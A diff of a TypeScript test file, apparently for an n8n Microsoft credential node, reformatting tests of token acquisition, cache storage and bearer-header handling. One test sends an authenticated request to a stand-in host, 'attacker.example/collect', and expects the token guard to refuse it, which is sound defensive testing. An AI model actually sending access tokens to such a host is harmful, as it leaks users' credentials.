@@ -71,7 +71,12 @@ const token = (accessToken: string) => ({
 });
 
 /** An acquirer that records what it was given and answers as told. */
-function recordingAcquirer(answer: (stored: string | undefined, request: NodeTokenRequest) => TokenOutcome & { fieldsToStore?: Record<string, string> }) {
+function recordingAcquirer(
+	answer: (
+		stored: string | undefined,
+		request: NodeTokenRequest,
+	) => TokenOutcome & { fieldsToStore?: Record<string, string> },
+) {
 	const calls: Array<{ stored: string | undefined; request: NodeTokenRequest }> = [];
 	const acquire: Acquirer = async (_data, stored, request) => {
 		calls.push({ stored, request });
@@ -80,13 +85,25 @@ function recordingAcquirer(answer: (stored: string | undefined, request: NodeTok
 	return { acquire, calls };
 }
 
-const record = (fields: ICredentialDataDecryptedObject = {}) => ({ clientId: 'app', [CACHE_MARKER_FIELD]: '', [TOKEN_CACHE_FIELD]: 'cache-v1', ...fields });
+const record = (fields: ICredentialDataDecryptedObject = {}) => ({
+	clientId: 'app',
+	[CACHE_MARKER_FIELD]: '',
+	[TOKEN_CACHE_FIELD]: 'cache-v1',
+	...fields,
+});
 
 describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
 	it('runs the acquisition inside preAuthentication with the stored cache and the node request, saves a changed cache, and sends nothing', async () => {
-		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-1'), cacheToStore: 'cache-v2', warnings: [] }));
+		const { acquire, calls } = recordingAcquirer(() => ({
+			token: token('at-1'),
+			cacheToStore: 'cache-v2',
+			warnings: [],
+		}));
 		const n8n = new FakeN8n(record(), acquire);
-		const outcome = await acquireThroughCredentialStore(n8n.context, TYPE, { scopes: 'x/.default', forceRefresh: true });
+		const outcome = await acquireThroughCredentialStore(n8n.context, TYPE, {
+			scopes: 'x/.default',
+			forceRefresh: true,
+		});
 		expect(outcome.token.accessToken).toBe('at-1');
 		expect(calls).toEqual([{ stored: 'cache-v1', request: { scopes: 'x/.default', forceRefresh: true } }]);
 		expect(n8n.writes).toBe(1);
@@ -104,7 +121,11 @@ describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
 	});
 
 	it('still gets a token, unsaved, when n8n skips preAuthentication (marker not empty)', async () => {
-		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-2'), cacheToStore: 'cache-v2', warnings: [] }));
+		const { acquire, calls } = recordingAcquirer(() => ({
+			token: token('at-2'),
+			cacheToStore: 'cache-v2',
+			warnings: [],
+		}));
 		const n8n = new FakeN8n(record({ [CACHE_MARKER_FIELD]: 'set-by-hand' }), acquire);
 		expect((await acquireThroughCredentialStore(n8n.context, TYPE, {})).token.accessToken).toBe('at-2');
 		expect(calls).toHaveLength(1);
@@ -136,7 +157,11 @@ describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
 	it('work other than a token (Sign Out, sign-in steps) returns its value and saves what it returns', async () => {
 		const { acquire, calls } = recordingAcquirer(() => ({ token: token('unused'), warnings: [] }));
 		const n8n = new FakeN8n(record({ pendingSignIn: 'old' }), acquire);
-		const value = await runThroughCredentialStore(n8n.context, TYPE, async (_data, stored) => ({ value: `saw ${stored}`, cacheToStore: 'cache-signed-out', fieldsToStore: { pendingSignIn: '' } }));
+		const value = await runThroughCredentialStore(n8n.context, TYPE, async (_data, stored) => ({
+			value: `saw ${stored}`,
+			cacheToStore: 'cache-signed-out',
+			fieldsToStore: { pendingSignIn: '' },
+		}));
 		expect(value).toBe('saw cache-v1');
 		expect(calls).toHaveLength(0);
 		expect(n8n.stored).toMatchObject({ [TOKEN_CACHE_FIELD]: 'cache-signed-out', pendingSignIn: '' });
@@ -144,14 +169,22 @@ describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
 	});
 
 	it("n8n's HTTP Request node path: one acquisition per request, the bearer token added, the token guard applied", async () => {
-		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-http'), cacheToStore: 'cache-v2', warnings: [] }));
+		const { acquire, calls } = recordingAcquirer(() => ({
+			token: token('at-http'),
+			cacheToStore: 'cache-v2',
+			warnings: [],
+		}));
 		const n8n = new FakeN8n(record(), acquire);
-		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, { url: 'https://graph.microsoft.com/v1.0/me' });
+		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, {
+			url: 'https://graph.microsoft.com/v1.0/me',
+		});
 		expect(calls).toHaveLength(1);
 		expect(n8n.sent[0].headers).toMatchObject({ Authorization: 'Bearer at-http' });
 		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v2');
 
-		const refused = await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, { url: 'https://attacker.example/collect' }).catch((e: Error) => e);
+		const refused = await n8n.context.helpers.httpRequestWithAuthentication
+			.call(n8n.context, TYPE, { url: 'https://attacker.example/collect' })
+			.catch((e: Error) => e);
 		expect(String((refused as { cause?: Error }).cause?.message)).toContain('Refused to send the access token');
 		expect(n8n.sent).toHaveLength(1);
 	});
